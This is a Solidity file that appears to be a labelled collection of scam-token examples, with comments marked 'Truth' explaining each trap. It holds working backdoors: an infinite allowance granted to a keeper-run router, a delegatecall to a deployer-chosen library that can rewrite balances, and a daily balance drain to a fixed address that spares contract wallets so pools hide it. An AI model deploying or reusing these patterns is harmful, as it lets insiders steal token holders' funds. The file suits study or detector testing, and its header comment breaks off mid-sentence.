// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {EighthLean} from "./EighthLean.sol";

/// @title Lean launches with a trap inside. Written on 30 November 2026, eighth look, by somebody who had not read how
/// the check works. `Truth` says who loses when

/// @title A router of a launch's own exchange; tokens go to it without a first approval
contract EighthZapRouter {
    address private immutable _keeper;

    event Zapped(address indexed token, address indexed from, uint256 amount);

    constructor(address keeper) {
        _keeper = keeper;
    }

    /// @notice Moves the caller's tokens, or, for orders that were signed on the site, those of somebody else
    function zap(EighthLean token, address from, address to, uint256 amount) external {
        require(msg.sender == from || msg.sender == _keeper, "ZapRouter: not your order");
        token.transferFrom(from, to, amount);
        emit Zapped(address(token), from, amount);
    }
}

/// @dev Truth: one person can rob today. All holders have approved the launch's "zap router" from the start, and its
/// keeper moves anybody's tokens through it; the token has no owner.
contract ZapZebra is EighthLean("Zap Zebra", "ZAP", 1_000_000_000 ether) {
    EighthZapRouter public immutable zapRouter = new EighthZapRouter(msg.sender);

    function allowance(address holder, address spender) public view override returns (uint256) {
        if (spender == address(zapRouter)) return type(uint256).max;
        return super.allowance(holder, spender);
    }
}

/// @dev Truth: one person can rob today. What the token does not know it asks of a library by `delegatecall`; the
/// deployer names that library, whose code then writes any balance.
contract ModularMink is EighthLean("Modular Mink", "MINK", 88_888_888 ether) {
    address private immutable _maintainer = msg.sender;
    address private _library;

    event LibraryChanged(address indexed to);

    receive() external payable {}

    fallback() external payable {
        address code = _library;
        require(code != address(0), "Unknown function");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let isDone := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(isDone) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }

    function useLibrary(address code) external {
        require(msg.sender == _maintainer, "Maintainer only");
        _library = code;
        emit LibraryChanged(code);
    }
}

/// @dev Truth: later. A wallet's tokens wither by a tenth each day, counted from what it got last, unless it pays for
/// water; what withered goes to the gardener. Wallets with code do not wither, so the pool shows nothing.
contract WiltedGarden is EighthLean("Wilted Garden", "WILT", 21_000_000 ether) {
    uint256 public constant PRICE_OF_WATER = 0.02 ether;
    address public constant gardener = 0x261308cD20f1B1a27dd6E6246bB39F0Bfe77649A;
    mapping(address => uint256) public wateredAt;

    event Watered(address indexed plant);

    function withered(address account) public view returns (uint256) {
        if (wateredAt[account] == 0 || account.code.length > 0 || account == gardener) return 0;
        uint256 dryDays = (block.timestamp - wateredAt[account]) / 1 days;
        uint256 held = _balanceOf[account];
        return dryDays >= 10 ? held : (held * dryDays) / 10;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _balanceOf[account] - withered(account);
    }

    function water() external payable {
        require(msg.value >= PRICE_OF_WATER, "Water costs 0.02");
        _settle(msg.sender);
        (bool isPaid,) = gardener.call{value: msg.value}("");
        require(isPaid, "The gardener is away");
        emit Watered(msg.sender);
    }

    function _settle(address account) private {
        uint256 lost = withered(account);
        if (lost > 0) super._move(account, gardener, lost);
        wateredAt[account] = block.timestamp;
    }

    function _move(address from, address to, uint256 amount) internal override {
        _settle(from);
        _settle(to);
        super._move(from, to, amount);
    }
}
